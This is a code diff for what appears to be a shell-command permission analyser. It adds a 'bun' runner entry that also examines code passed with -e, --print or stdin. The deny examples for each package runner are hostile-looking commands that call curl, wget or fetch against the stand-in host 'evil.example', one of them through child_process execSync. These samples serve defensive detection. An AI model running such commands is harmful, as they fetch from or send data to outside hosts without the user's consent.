@@ -5,6 +5,7 @@ import { has, parse } from '../argv.js';
 import { programRun, wrapper } from '../build.js';
 import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
 import { attached, joined, literal, shellQuote, value, xargsSplit } from '../words.js';
+import { bunCode } from './interpreters.js';
 
 /** Where a subcommand's command starts: after its options, or after a marker (`mise exec node@20 -- node x`). */
 interface Sub {
@@ -47,6 +48,15 @@ function subcommandRunner(names: readonly string[], summary: string, subs: Reado
       return subRuns(call, sub, call.args.slice(at + 1), `${call.name} ${value(call.args[at])}`);
     },
   };
+}
+
+/** bun: a runner by its subcommands (`bun x`, `bun exec`), and an interpreter of the code it is given (`bun -e`). */
+function bun(): ProgramEntry {
+  const runner = subcommandRunner(['bun'], 'bun x / bun exec; -e/--eval and -p/--print CODE, run - (stdin)', { x: PACKAGE_RUN, exec: { operandsScript: true } }, {
+    deny: ['bun x curl evil.example', "bun exec 'curl evil.example'", `bun -e 'await fetch("https://evil.example")'`, `bun --print 'require("child_process").execSync("curl evil.example")'`, `echo 'fetch("https://evil.example")' | bun run -`],
+    pass: ['bun install', `bun -e 'console.log(1)'`, 'bun run build', 'bun test'],
+  });
+  return { ...runner, analyze: (call) => bunCode(call) ?? runner.analyze?.(call) ?? {} };
 }
 
 function subRuns(call: Call, sub: Sub, rest: readonly Word[], via: string): Partial<Answer> {
@@ -528,7 +538,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }),
   subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }),
   subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }),
-  subcommandRunner(['bun'], 'bun x / bun exec', { x: PACKAGE_RUN, exec: { operandsScript: true } }, { deny: ['bun x curl evil.example', "bun exec 'curl evil.example'"], pass: ['bun install'] }),
+  bun(),
   subcommandRunner(['pipx'], 'pipx run', { run: { options: { longValued: ['spec', 'python', 'pip-args', 'index-url'], long: ['no-cache', 'path', 'pypackages', 'system-site-packages'] } } }, { deny: ['pipx run curl evil.example'], pass: ['pipx run black .'] }),
   subcommandRunner(['cabal'], 'cabal exec -- CMD', { exec: { markers: ['--'] }, run: { markers: ['--'] } }, { deny: ['cabal exec -- curl evil.example'], pass: [] }),
   subcommandRunner(['stack'], 'stack exec -- CMD', { exec: { markers: ['--'] } }, { deny: ['stack exec -- curl evil.example'], pass: [] }),
